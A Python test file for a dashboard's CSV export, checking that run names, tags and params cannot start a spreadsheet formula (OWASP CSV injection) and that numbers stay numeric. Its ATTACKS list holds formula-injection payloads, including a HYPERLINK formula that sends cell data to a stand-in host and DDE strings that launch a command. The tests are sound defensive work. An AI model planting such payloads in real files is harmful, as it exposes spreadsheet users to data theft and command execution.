"""CSV downloads of tables (the Leaderboard's, a snapshot's): a spreadsheet opens any run name,
tag or param as text, never as a formula, and numbers stay numbers (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from tracklib.dashboard.csv_export import FORMULA_STARTS, csv_text, neutralised

ATTACKS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(max_size=20),
    st.builds(lambda c, rest: c + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=10)),
)
numbers = st.floats(allow_nan=False, allow_infinity=False, width=64)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.tuples(texts, numbers), min_size=1, max_size=6),
    texts.filter(lambda c: c not in ("name", "value")),
)
def test_text_cells_never_start_a_formula_and_numbers_stay_numbers(rows, column):
    table = pd.DataFrame(rows, columns=["name", "value"])
    table[column] = [name for name, _ in rows]  # an untrusted param name as a column too
    read = cells(csv_text(table))
    header, body = read[0], read[1:]
    assert header[:2] == ["name", "value"]
    assert header[2] == neutralised(column)
    for (name, value), row in zip(rows, body, strict=True):
        assert float(row[1]) == value  # a negative number is written as it is: still a number
        assert row[0] == neutralised(name)
        if name.startswith(FORMULA_STARTS) and row[0] != name:
            assert row[0] == "'" + name  # OWASP: a leading quote, the text kept whole after it
        assert not row[0].startswith(FORMULA_STARTS) or _plain_number(row[0])


def test_known_attacks_are_quoted_and_negative_numbers_are_not():
    table = pd.DataFrame(
        {
            "name": [*ATTACKS, "-0.5", "ok"],
            "value": [-1.5] * 8,
            "mixed": [-2, "=1", 3.5, None, "a", "-x", 1, 2],
        }
    )
    body = cells(csv_text(table))[1:]
    assert [row[0] for row in body] == ["'" + a for a in ATTACKS] + ["-0.5", "ok"]
    assert {row[1] for row in body} == {"-1.5"}
    assert [row[2] for row in body] == ["-2", "'=1", "3.5", "", "a", "'-x", "1", "2"]


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
